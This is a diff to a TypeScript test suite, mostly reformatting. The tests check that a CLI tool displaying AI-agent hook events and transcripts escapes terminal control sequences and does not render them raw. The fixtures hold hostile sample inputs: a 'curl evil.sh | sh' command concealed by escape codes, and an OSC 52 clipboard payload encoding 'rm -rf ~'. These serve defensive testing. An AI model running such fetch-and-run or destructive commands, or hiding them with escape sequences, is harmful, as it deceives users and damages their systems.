@@ -32,10 +32,21 @@ t.test('payload and transcript text never reach the terminal raw', async (t) => 
   const env: ChildEnv = baseEnv(root, { CLAUDE_CONFIG_DIR: claude, NO_COLOR: '1', COLUMNS: '200' })
   const transcript = join(claude, 'projects', '-w', 'bbbbbbbb-0000-4000-8000-000000000002.jsonl')
   fs.mkdirSync(join(claude, 'projects', '-w'), { recursive: true })
-  const toolResult = { type: 'user', promptId: 'p0', timestamp: new Date().toISOString(), message: { role: 'user', content: [{ type: 'tool_result', tool_use_id: 'x', content: `build ok${OSC52}` }] } }
+  const toolResult = {
+    type: 'user',
+    promptId: 'p0',
+    timestamp: new Date().toISOString(),
+    message: { role: 'user', content: [{ type: 'tool_result', tool_use_id: 'x', content: `build ok${OSC52}` }] },
+  }
   fs.writeFileSync(transcript, `${JSON.stringify(toolResult)}\n`)
 
-  const stop = { session_id: 'aaaaaaaa-0000-4000-8000-000000000001', cwd: `${project}`, hook_event_name: 'Stop', prompt_id: 'p1', last_assistant_message: `All done.${OSC0}\nReady ${BIDI}?gnirts` }
+  const stop = {
+    session_id: 'aaaaaaaa-0000-4000-8000-000000000001',
+    cwd: `${project}`,
+    hook_event_name: 'Stop',
+    prompt_id: 'p1',
+    last_assistant_message: `All done.${OSC0}\nReady ${BIDI}?gnirts`,
+  }
   const ask = {
     session_id: 'bbbbbbbb-0000-4000-8000-000000000002',
     cwd: join(root, `w\x1b[31m`),
@@ -76,7 +87,9 @@ t.test('payload and transcript text never reach the terminal raw', async (t) => 
   t.match(show.stdout, 'curl evil.sh | sh;echo harmless\\r^[[K', 'the hidden part of a command is shown, visibly')
   t.match(show.stdout, 'build ok^[]52;c;cm0gLXJmIH4K^G', 'an OSC 52 in a tool_result is shown, not run')
 
-  const json = JSON.parse((await runInProcess(['ls', '--json'], env)).stdout) as { queue: { sessionId: string; cwd: string; ask: { input: { command: string } | null; message: string | null } }[] }
+  const json = JSON.parse((await runInProcess(['ls', '--json'], env)).stdout) as {
+    queue: { sessionId: string; cwd: string; ask: { input: { command: string } | null; message: string | null } }[]
+  }
   const byId = new Map(json.queue.map((i) => [i.sessionId, i]))
   t.equal(byId.get(ask.session_id)?.ask.input?.command, ask.tool_input.command, '--json keeps the text exactly')
   t.equal(byId.get(ask.session_id)?.cwd, ask.cwd)
@@ -89,7 +102,10 @@ const RAW_IN_JSON = /[\x00-\x09\x0b-\x1f\x7f-\x9f\u2028\u2029]/
 /** The first line `ls --json --follow` prints: the queue as it is, on one line. */
 const firstFollowLine = (env: ChildEnv): Promise<string> =>
   new Promise((resolve) => {
-    const child = spawn(process.execPath, [CLI, 'ls', '--json', '--follow'], { env: env as NodeJS.ProcessEnv, stdio: ['ignore', 'pipe', 'ignore'] })
+    const child = spawn(process.execPath, [CLI, 'ls', '--json', '--follow'], {
+      env: env as NodeJS.ProcessEnv,
+      stdio: ['ignore', 'pipe', 'ignore'],
+    })
     let out = ''
     child.stdout.on('data', (d: Buffer) => {
       out += d.toString()
@@ -105,7 +121,13 @@ t.test('every --json output escapes C0 and C1 controls and U+2028/9, and reads b
   const root = tempDir(t)
   const env: ChildEnv = baseEnv(root, { NO_COLOR: '1' })
   const message = `Ready\u009b2J\u009b31m? \u0085next\u2028line\u2029para\x7f \x1b[K\x07`
-  const stop = { session_id: 'cccccccc-0000-4000-8000-000000000003', cwd: join(root, 'w\u009bx'), hook_event_name: 'Stop', prompt_id: 'p1', last_assistant_message: message }
+  const stop = {
+    session_id: 'cccccccc-0000-4000-8000-000000000003',
+    cwd: join(root, 'w\u009bx'),
+    hook_event_name: 'Stop',
+    prompt_id: 'p1',
+    last_assistant_message: message,
+  }
   t.equal((await runEmitter(JSON.stringify(stop), env)).code, 0)
   // A file named with a C1 control, where records live: `doctor --json` and `ls --json` name it.
   fs.writeFileSync(join(root, 'tb', 'sessions', 'y\u009b.json'), '{}')
@@ -129,7 +151,7 @@ t.test('every --json output escapes C0 and C1 controls and U+2028/9, and reads b
   t.match(doc.skipped.map((s) => s.file).join(' '), 'y\u009b.json')
   // The digest is of the document's content, however it is printed: the exact text's.
   const { digest, ...content } = doc
-  t.equal(digest, listingDigest(content), 'the digest is the content\'s, escaping or not')
+  t.equal(digest, listingDigest(content), "the digest is the content's, escaping or not")
   const follow = JSON.parse(outputs[2]![1]) as { digest: string }
   t.equal(follow.digest, digest, 'the same in a --follow line')
   t.match((await runInProcess(['show', 'cccccccc', '--json'], env)).stdout, '\\u009b2J')
